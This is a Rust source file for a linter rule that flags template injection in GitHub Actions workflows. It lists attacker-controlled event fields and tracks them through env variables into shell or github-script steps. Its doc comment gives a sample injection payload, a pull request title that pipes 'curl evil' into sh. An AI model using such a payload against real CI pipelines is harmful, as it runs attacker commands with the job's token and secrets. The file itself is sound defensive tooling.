//! `template-injection`: an attacker-controllable context expanded with
//! `${{ }}` inside `run:` (a shell script) or `script:` of
//! `actions/github-script` (JavaScript). The expansion happens before the
//! shell or interpreter sees the text, so a pull request title like
//! `"; curl evil | sh #` becomes code.
//!
//! Attacker-controllable: titles, bodies, branch names, commit messages and
//! author names/emails of issues, pull requests, comments, reviews,
//! discussions, pushes and workflow runs (see `DANGEROUS`), and expansions
//! of whole objects that contain them (`toJSON(github.event)`). An `env:`
//! variable set from such text (at workflow, job or step level) and then
//! expanded as `${{ env.NAME }}` is the same injection one step removed.
//! Inputs of `workflow_dispatch` and step outputs are not flagged: they need
//! write access or are not attacker text in general (a known limit).

use crate::expr::{context_paths, expressions, path_contains, path_matches};
use crate::finding::{Confidence, Draft, Severity};
use crate::model::{Action, Step, Workflow};
use crate::route::{Loc, Route};
use crate::rules::{Context, Rule, RuleMeta};
use crate::yaml::Node;

pub static META: RuleMeta = RuleMeta {
    id: "template-injection",
    severity: Severity::High,
    confidence: Confidence::High,
    summary: "Attacker-controllable text (titles, bodies, branch names, ...) is expanded into a script.",
    risk: "`${{ }}` is replaced before the shell runs, so the text becomes part of the script. \
           Anyone who can open an issue or pull request, name a branch or write a commit \
           message can run commands in the job, with its token and secrets.",
    fix: "Pass the value through an environment variable and quote it in the script: \
          `env: TITLE: ${{ github.event.issue.title }}` and `run: echo \"$TITLE\"` (in \
          github-script, read `context.payload` or `process.env`).",
};

/// Context paths whose value an outside attacker chooses. `*` is one segment.
const DANGEROUS: &[&str] = &[
    "github.head_ref",
    "github.event.issue.title",
    "github.event.issue.body",
    "github.event.pull_request.title",
    "github.event.pull_request.body",
    "github.event.pull_request.head.ref",
    "github.event.pull_request.head.label",
    "github.event.pull_request.head.repo.default_branch",
    "github.event.pull_request.head.repo.description",
    "github.event.pull_request.head.repo.homepage",
    "github.event.comment.body",
    "github.event.review.body",
    "github.event.review_comment.body",
    "github.event.discussion.title",
    "github.event.discussion.body",
    "github.event.pages.*.page_name",
    "github.event.commits.*.message",
    "github.event.commits.*.author.email",
    "github.event.commits.*.author.name",
    "github.event.commits.*.committer.email",
    "github.event.commits.*.committer.name",
    "github.event.head_commit.message",
    "github.event.head_commit.author.email",
    "github.event.head_commit.author.name",
    "github.event.head_commit.committer.email",
    "github.event.head_commit.committer.name",
    "github.event.workflow_run.head_branch",
    "github.event.workflow_run.display_title",
    "github.event.workflow_run.head_commit.message",
    "github.event.workflow_run.head_commit.author.email",
    "github.event.workflow_run.head_commit.author.name",
    "github.event.workflow_run.pull_requests.*.head.ref",
    "github.event.workflow_run.head_commit.committer.email",
    "github.event.workflow_run.head_commit.committer.name",
    "github.event.workflow_run.head_repository.description",
    "github.event.merge_group.head_commit.message",
    "github.event.merge_group.head_commit.author.email",
    "github.event.merge_group.head_commit.author.name",
];

pub struct TemplateInjection;

impl Rule for TemplateInjection {
    fn meta(&self) -> &'static RuleMeta {
        &META
    }

    fn check_workflow(&self, wf: &Workflow<'_>, _cx: &Context<'_>) -> Vec<Draft> {
        let mut workflow_env = Tainted::new();
        taint(wf.env, &mut workflow_env);
        wf.jobs
            .iter()
            .flat_map(|j| {
                let mut job_env = workflow_env.clone();
                taint(j.node.get("env"), &mut job_env);
                check_steps(&j.steps, &job_env)
            })
            .collect()
    }

    fn check_action(&self, action: &Action<'_>, _cx: &Context<'_>) -> Vec<Draft> {
        check_steps(&action.steps, &Tainted::new())
    }
}

/// An environment variable whose value expands attacker-controllable text.
#[derive(Debug, Clone)]
struct TaintedVar {
    /// Lower-cased, as expressions read `env.NAME`.
    key: String,
    /// As written in `env:`.
    name: String,
    /// The attacker-controllable context it is set from.
    source: String,
}

type Tainted = Vec<TaintedVar>;

/// Applies one `env:` mapping on top of the outer ones: a name it sets
/// replaces the outer value, tainted or not.
fn taint(env: Option<&Node>, tainted: &mut Tainted) {
    let Some(entries) = env.and_then(Node::as_map) else {
        return;
    };
    for entry in entries {
        let Some(name) = entry.key.as_str() else {
            continue;
        };
        let key = name.to_ascii_lowercase();
        tainted.retain(|t| t.key != key);
        let value = entry.value.as_str().unwrap_or("");
        if let Some((source, _)) = expressions(value)
            .iter()
            .find_map(|e| dangerous_path(e.inner))
        {
            tainted.push(TaintedVar {
                key,
                name: name.to_owned(),
                source,
            });
        }
    }
}

/// The attacker-controllable context an expression reads, and whether it is
/// a whole object that merely contains such text (`toJSON(github.event)`).
pub(crate) fn dangerous_path(inner: &str) -> Option<(String, bool)> {
    let path = context_paths(inner).into_iter().find(|p| {
        DANGEROUS
            .iter()
            .any(|d| path_matches(p, d) || (p.starts_with("github") && path_contains(p, d)))
    })?;
    let whole_object = !DANGEROUS.iter().any(|d| path_matches(&path, d));
    Some((path, whole_object))
}

fn check_steps(steps: &[Step<'_>], job_env: &Tainted) -> Vec<Draft> {
    let mut out = Vec::new();
    for step in steps {
        let mut env = job_env.clone();
        taint(step.env, &mut env);
        if let Some(run) = step.run {
            out.extend(check_text(run, step.route.key("run"), "shell script", &env));
        }
        if step.uses_action("actions/github-script")
            && let Some(script) = step.input("script")
        {
            out.extend(check_text(
                script,
                step.route.key("with").key("script"),
                "github-script code",
                &env,
            ));
        }
    }
    out
}

fn check_text(text: &str, route: Route, what: &str, env: &Tainted) -> Vec<Draft> {
    let mut out = Vec::new();
    let mut seen: Vec<&str> = Vec::new();
    for e in expressions(text) {
        let occurrence = seen.iter().filter(|r| **r == e.raw).count();
        seen.push(e.raw);
        let (message, confidence) = if let Some((path, whole_object)) = dangerous_path(e.inner) {
            (
                format!("`{path}` can be chosen by an attacker and is expanded into the {what}"),
                if whole_object {
                    Confidence::Medium
                } else {
                    Confidence::High
                },
            )
        } else if let Some(var) = context_paths(e.inner).iter().find_map(|p| {
            let key = p.strip_prefix("env.")?;
            env.iter().find(|t| t.key == key)
        }) {
            (
                format!(
                    "`env.{}` is set from `{}`, which an attacker can choose, and is expanded into the {what}",
                    var.name, var.source
                ),
                Confidence::High,
            )
        } else {
            continue;
        };
        out.push(
            Draft::new(
                &META,
                message,
                Loc::value(route.clone()).with_needle(e.raw).nth(occurrence),
                "attacker-controllable expansion",
            )
            .confidence(confidence),
        );
    }
    out
}
